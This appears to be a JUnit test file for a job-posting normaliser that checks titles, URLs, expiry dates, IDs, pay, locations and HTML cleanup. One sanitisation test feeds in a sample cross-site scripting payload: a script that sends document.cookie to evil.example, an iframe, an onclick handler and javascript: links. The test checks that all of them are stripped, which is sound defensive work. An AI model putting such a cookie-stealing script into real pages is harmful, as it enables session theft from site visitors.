package dev.tpmalerts.ingest.normalize;

import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.NullAndEmptySource;
import org.junit.jupiter.params.provider.ValueSource;

import dev.tpmalerts.ingest.source.RawPosting;
import dev.tpmalerts.ingest.source.RawPosting.RawSalary;
import dev.tpmalerts.ingest.source.SourceType;
import dev.tpmalerts.shared.Location;
import dev.tpmalerts.shared.Posting;
import dev.tpmalerts.shared.PostingIds;
import dev.tpmalerts.shared.Salary;
import dev.tpmalerts.shared.SalaryPeriod;
import dev.tpmalerts.shared.SourceRef;
import dev.tpmalerts.shared.Workplace;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class PostingNormalizerTest {

	private static final Instant NOW = Instant.parse("2026-12-15T10:00:00Z");

	private final PostingNormalizer normalizer = new PostingNormalizer(Clock.fixed(NOW, ZoneOffset.UTC));

	@ParameterizedTest(name = "title ''{0}''")
	@NullAndEmptySource
	@ValueSource(strings = { "   ", "\n\t" })
	void shouldRejectPostingWithoutTitle(String title) {
		RawPosting raw = careerPage().title(title).build();

		assertThatThrownBy(() -> this.normalizer.normalize(raw)).isInstanceOf(RejectedPostingException.class)
			.hasMessageContaining("title")
			.hasMessageContaining("https://careers.example.com/jobs/42");
	}

	@Test
	void shouldRejectTitleLongerThan300Characters() {
		RawPosting raw = careerPage().title("Technical Program Manager ".repeat(12) + "X".repeat(10)).build();

		assertThatThrownBy(() -> this.normalizer.normalize(raw)).isInstanceOf(RejectedPostingException.class)
			.hasMessageContaining("title is 322 characters long (at most 300)")
			.hasMessageContaining("'Technical Program Manager Technical");
	}

	@Test
	void shouldAcceptTitleOfExactly300Characters() {
		String title = "T".repeat(300);

		assertThat(this.normalizer.normalize(careerPage().title(title).build()).title()).isEqualTo(title);
	}

	@Test
	void shouldRejectPostingWithoutUrlNamingTheTitle() {
		RawPosting raw = careerPage().url(null).build();

		assertThatThrownBy(() -> this.normalizer.normalize(raw)).isInstanceOf(RejectedPostingException.class)
			.hasMessageContaining("url is missing")
			.hasMessageContaining("Technical Program Manager");
	}

	@Test
	void shouldRejectPostingWithAnInvalidUrlNamingIt() {
		RawPosting raw = careerPage().url("javascript:apply()").build();

		assertThatThrownBy(() -> this.normalizer.normalize(raw)).isInstanceOf(RejectedPostingException.class)
			.hasMessageContaining("javascript:apply()");
	}

	@Test
	void shouldKeepAPostingWhoseTextHasAbsurdPayWithoutPay() {
		RawPosting raw = careerPage().description("<p>Pay: $5 - $10 per year.</p>").build();

		Posting posting = this.normalizer.normalize(raw);

		assertThat(posting.salary()).isNull();
		assertThat(posting.descriptionText()).contains("Pay: $5 - $10 per year.");
	}

	@Test
	void shouldSanitiseTheDescriptionHtml() {
		RawPosting raw = careerPage().description("""
				<h3>About the role</h3>
				<p onclick="steal()">Lead our <b>payments</b> programs.</p>
				<script>document.location='https://evil.example/?c='+document.cookie</script>
				<style>p { color: red }</style>
				<iframe src="https://evil.example/frame"></iframe>
				<p>Apply by <a href="javascript:alert(1)">clicking here</a> or <a href="https://careers.example.com/apply">here</a>.</p>
				""").build();

		Posting posting = this.normalizer.normalize(raw);

		assertThat(posting.descriptionHtml()).contains("<p>Lead our <b>payments</b> programs.</p>", "<h3>About the role</h3>",
				"<a href=\"https://careers.example.com/apply\" rel=\"nofollow\">here</a>")
			.doesNotContain("<script", "document.cookie", "<style", "<iframe", "onclick", "javascript:");
		assertThat(posting.descriptionText()).doesNotContain("document.cookie", "color: red");
	}

	@Test
	void shouldWriteOneLinePerParagraphInThePlainText() {
		RawPosting raw = careerPage()
			.description("<h3>About the role</h3><p>Lead our payments programs.</p><p>Work with   twelve\n teams.</p>"
					+ "<ul><li>Plan releases</li><li>Track risks</li></ul>Call us<br>today")
			.build();

		Posting posting = this.normalizer.normalize(raw);

		assertThat(posting.descriptionText().lines().map(String::strip)).containsExactly("About the role",
				"Lead our payments programs.", "Work with twelve teams.", "Plan releases", "Track risks", "Call us",
				"today");
	}

	@Test
	void shouldStartALineWhereABlockStarts() {
		RawPosting raw = careerPage()
			.description("<div><strong>About Dunmore</strong><br>We make truck bodies.</div><div><strong>What you'll do</strong>"
					+ "<ul><li>Own the plan</li></ul><strong>What you need</strong><p>PMP or equivalent.</p></div>")
			.build();

		Posting posting = this.normalizer.normalize(raw);

		assertThat(posting.descriptionText().lines().map(String::strip)).containsExactly("About Dunmore",
				"We make truck bodies.", "What you'll do", "Own the plan", "What you need", "PMP or equivalent.");
	}

	@Test
	void shouldKeepPlainTextDescriptionsAsTheyAre() {
		Posting posting = this.normalizer
			.normalize(careerPage().description("Manage our online learning programs. Fully remote (US).").build());

		assertThat(posting.descriptionText()).isEqualTo("Manage our online learning programs. Fully remote (US).");
		assertThat(posting.workplace()).isEqualTo(Workplace.REMOTE);
	}

	@Test
	void shouldKeepTheLinesOfAPlainTextDescription() {
		Posting posting = this.normalizer.normalize(careerPage()
			.description("About Lakeview\nWe run four hospitals.\n\nRequirements\n\u2022 PMP preferred\n- 5 < 7 years")
			.build());

		assertThat(posting.descriptionText().lines()).containsExactly("About Lakeview", "We run four hospitals.",
				"Requirements", "\u2022 PMP preferred", "- 5 < 7 years");
		assertThat(posting.descriptionHtml()).startsWith("<p>About Lakeview</p>").contains("5 &lt; 7 years");
	}

	@Test
	void shouldGiveAnEmptyDescriptionWhenThereIsNone() {
		Posting posting = this.normalizer.normalize(careerPage().description(null).build());

		assertThat(posting.descriptionHtml()).isEmpty();
		assertThat(posting.descriptionText()).isEmpty();
		assertThat(posting.workplace()).isEqualTo(Workplace.UNKNOWN);
	}

	@ParameterizedTest(name = "valid through {0} → expired {1}")
	@CsvSource(delimiter = '|', textBlock = """
			2026-12-14                 | true
			2026-11-01T23:59:59-05:00  | true
			2026-12-15                 | false
			2026-12-16                 | false
			2027-01-31                 | false
			""")
	void shouldDetectAnExpiredValidThroughDate(String validThrough, boolean expired) {
		Posting posting = this.normalizer.normalize(careerPage().validThrough(validThrough).build());

		assertThat(this.normalizer.isExpired(posting)).isEqualTo(expired);
	}

	@Test
	void shouldNotCallAPostingWithoutValidThroughExpired() {
		Posting posting = this.normalizer.normalize(careerPage().validThrough(null).build());

		assertThat(posting.validThrough()).isNull();
		assertThat(this.normalizer.isExpired(posting)).isFalse();
	}

	@Test
	void shouldNotExpireAPostingBeforeItsValidThroughInstant() {
		PostingNormalizer lateEvening = new PostingNormalizer(
				Clock.fixed(Instant.parse("2026-11-02T03:00:00Z"), ZoneOffset.UTC));
		Posting posting = lateEvening.normalize(careerPage().validThrough("2026-11-01T23:59:59-05:00").build());

		assertThat(lateEvening.isExpired(posting)).isFalse();
	}

	@Test
	void shouldGiveTheSameIdToTheSameAtsJobFetchedTwice() {
		Posting first = this.normalizer.normalize(greenhouse().build());
		Posting second = this.normalizer.normalize(
				greenhouse().url("https://boards.greenhouse.io/northwind/jobs/4412087005?gh_src=abc&utm_source=x")
					.title("Senior Technical Program Manager, Cloud Infrastructure (Updated)")
					.build());

		assertThat(second.id()).isEqualTo(first.id());
	}

	@Test
	void shouldTakeTheIdOfAnAtsPostingFromItsAtsId() {
		Posting posting = this.normalizer.normalize(greenhouse().build());

		assertThat(posting.id()).isEqualTo(PostingIds.of("greenhouse:northwind:4412087005"))
			.isNotEqualTo(PostingIds.of(posting.canonicalUrl()));
	}

	@Test
	void shouldTakeTheIdOfACareerPageFromItsCanonicalUrlEvenWithAnIdentifier() {
		Posting posting = this.normalizer.normalize(careerPage().externalId("R-30917")
			.url("https://Careers.Example.com/jobs/42/?utm_source=linkedin#apply")
			.build());

		assertThat(posting.canonicalUrl()).isEqualTo("https://careers.example.com/jobs/42");
		assertThat(posting.id()).isEqualTo(PostingIds.of("https://careers.example.com/jobs/42"));
	}

	@Test
	void shouldGiveAFeedCopyAndTheCareerPageTheSameIdThroughTheCanonicalUrl() {
		Posting page = this.normalizer.normalize(careerPage().build());
		Posting feedCopy = this.normalizer.normalize(careerPage().sourceType(SourceType.FEED)
			.externalId("pmcd-88213")
			.url("https://careers.example.com/jobs/42?utm_source=pmcareersdigest&utm_medium=rss")
			.build());

		assertThat(feedCopy.id()).isEqualTo(page.id());
	}

	@Test
	void shouldPreferStructuredPayOverPayInTheText() {
		RawPosting raw = careerPage().salary(new RawSalary(100000.0, 120000.0, "USD", "YEAR"))
			.description("<p>The range for this role is $150k–$180k.</p>")
			.build();

		assertThat(this.normalizer.normalize(raw).salary())
			.isEqualTo(Salary.of(100000.0, 120000.0, "USD", SalaryPeriod.YEAR));
	}

	@Test
	void shouldReadPayFromTheTextWhenNoneIsStructured() {
		RawPosting raw = careerPage().description("<p>The range for this role is $150k–$180k.</p>").build();

		assertThat(this.normalizer.normalize(raw).salary())
			.isEqualTo(Salary.of(150000.0, 180000.0, "USD", SalaryPeriod.YEAR));
	}

	@Test
	void shouldFillEveryFieldOfTheNormalisedPosting() {
		RawPosting raw = careerPage().title("  Sr.  TPM   (m/w/d) ")
			.company("  Northwind Cloud Systems ")
			.workplaceHint("TELECOMMUTE")
			.employmentType("Full-time")
			.datePosted("Tue, 27 Oct 2026 15:00:00 GMT")
			.validThrough("2027-01-15")
			.build();

		Posting posting = this.normalizer.normalize(raw);

		assertThat(posting.title()).isEqualTo("Sr. TPM");
		assertThat(posting.seniority()).isEqualTo("senior");
		assertThat(posting.company()).isEqualTo("Northwind Cloud Systems");
		assertThat(posting.workplace()).isEqualTo(Workplace.REMOTE);
		assertThat(posting.workplaceEvidence()).isEqualTo("TELECOMMUTE");
		assertThat(posting.employmentType()).isEqualTo("FULL_TIME");
		assertThat(posting.datePosted()).isEqualTo(LocalDate.of(2026, 10, 27));
		assertThat(posting.validThrough()).isEqualTo(LocalDate.of(2027, 1, 15));
		assertThat(posting.fetchedAt()).isEqualTo(NOW);
		assertThat(posting.sources()).containsExactly(
				new SourceRef("northwind-careers", "json-ld-page", "https://careers.example.com/jobs/42"));
	}

	@ParameterizedTest(name = "{0} → {1}")
	@CsvSource(delimiter = '|', textBlock = """
			FULL_TIME            | FULL_TIME
			Full-time            | FULL_TIME
			FullTime             | FULL_TIME
			PART_TIME            | PART_TIME
			CONTRACTOR           | CONTRACTOR
			Contract             | CONTRACTOR
			Internship           | INTERN
			Temporary            | TEMPORARY
			FULL_TIME,CONTRACTOR | FULL_TIME
			Volunteer            | VOLUNTEER
			""")
	void shouldNormaliseTheEmploymentType(String raw, String expected) {
		assertThat(this.normalizer.normalize(careerPage().employmentType(raw).build()).employmentType())
			.isEqualTo(expected);
	}

	@Test
	void shouldKeepStructuredLocationsAndSplitLocationTextIntoPlaces() {
		Posting structured = this.normalizer.normalize(
				careerPage().locations(List.of(Location.of("Plano", "TX", "US"), Location.of("Atlanta", "GA", "US")))
					.locationText("ignored when places are given")
					.build());
		Posting fromText = this.normalizer.normalize(careerPage().locationText("Austin, TX; Denver, CO").build());
		Posting threeParts = this.normalizer
			.normalize(careerPage().locationText("Boston, Massachusetts, United States").build());

		assertThat(structured.locations()).extracting(Location::display).containsExactly("Plano, TX, US", "Atlanta, GA, US");
		assertThat(fromText.locations()).containsExactly(Location.of("Austin", "TX", "US"),
				Location.of("Denver", "CO", "US"));
		assertThat(threeParts.locations()).containsExactly(Location.of("Boston", "Massachusetts", "US"));
	}

	@ParameterizedTest(name = "{0}")
	@CsvSource(delimiter = '|', nullValues = "-", textBlock = """
			London, UK   | London | -  | GB
			Berlin, Germany | Berlin | -  | DE
			Dover, DE    | Dover  | DE | US
			Toronto, ON  | Toronto | ON | CA
			US           | -      | -  | US
			Remote (US)  | -      | -  | US
			""")
	void shouldNotMakeEveryTwoLetterCodeAUsStateOrEveryWordACity(String text, String city, String region,
			String country) {
		Posting posting = this.normalizer.normalize(careerPage().locationText(text).build());

		assertThat(posting.locations()).containsExactly(Location.of(city, region, country));
	}

	@Test
	void shouldUnescapeAnEntityEscapedDescription() {
		Posting posting = this.normalizer.normalize(
				careerPage().description("&lt;h3&gt;About Lakeview&lt;/h3&gt;\n&lt;p&gt;We run four hospitals.&lt;/p&gt;")
					.build());

		assertThat(posting.descriptionText().lines()).containsExactly("About Lakeview", "We run four hospitals.");
	}

	private static Builder careerPage() {
		return new Builder().source("northwind-careers")
			.sourceType(SourceType.JSON_LD_PAGE)
			.url("https://careers.example.com/jobs/42")
			.title("Technical Program Manager")
			.company("Northwind Cloud Systems")
			.description("<p>Lead our platform programs.</p>");
	}

	private static Builder greenhouse() {
		return new Builder().source("northwind-greenhouse")
			.sourceType(SourceType.GREENHOUSE)
			.url("https://boards.greenhouse.io/northwind/jobs/4412087005")
			.externalId("greenhouse:northwind:4412087005")
			.title("Senior Technical Program Manager, Cloud Infrastructure")
			.company("Northwind Cloud Systems")
			.locationText("San Francisco, CA")
			.description("<p>This role is hybrid: 3 days a week in our San Francisco office.</p>");
	}

	/** A raw posting with sensible defaults, so each test states only what it is about. */
	private static final class Builder {

		private String source;

		private SourceType sourceType;

		private String url;

		private String externalId;

		private String title;

		private String company;

		private List<Location> locations = List.of();

		private String locationText;

		private String workplaceHint;

		private RawSalary salary;

		private String employmentType;

		private String datePosted;

		private String validThrough;

		private String description;

		Builder source(String source) {
			this.source = source;
			return this;
		}

		Builder sourceType(SourceType sourceType) {
			this.sourceType = sourceType;
			return this;
		}

		Builder url(String url) {
			this.url = url;
			return this;
		}

		Builder externalId(String externalId) {
			this.externalId = externalId;
			return this;
		}

		Builder title(String title) {
			this.title = title;
			return this;
		}

		Builder company(String company) {
			this.company = company;
			return this;
		}

		Builder locations(List<Location> locations) {
			this.locations = locations;
			return this;
		}

		Builder locationText(String locationText) {
			this.locationText = locationText;
			return this;
		}

		Builder workplaceHint(String workplaceHint) {
			this.workplaceHint = workplaceHint;
			return this;
		}

		Builder salary(RawSalary salary) {
			this.salary = salary;
			return this;
		}

		Builder employmentType(String employmentType) {
			this.employmentType = employmentType;
			return this;
		}

		Builder datePosted(String datePosted) {
			this.datePosted = datePosted;
			return this;
		}

		Builder validThrough(String validThrough) {
			this.validThrough = validThrough;
			return this;
		}

		Builder description(String description) {
			this.description = description;
			return this;
		}

		RawPosting build() {
			return new RawPosting(this.source, this.sourceType, this.url, this.externalId, this.title, this.company,
					this.locations, this.locationText, this.workplaceHint, this.salary, this.employmentType,
					this.datePosted, this.validThrough, this.description);
		}

	}

}
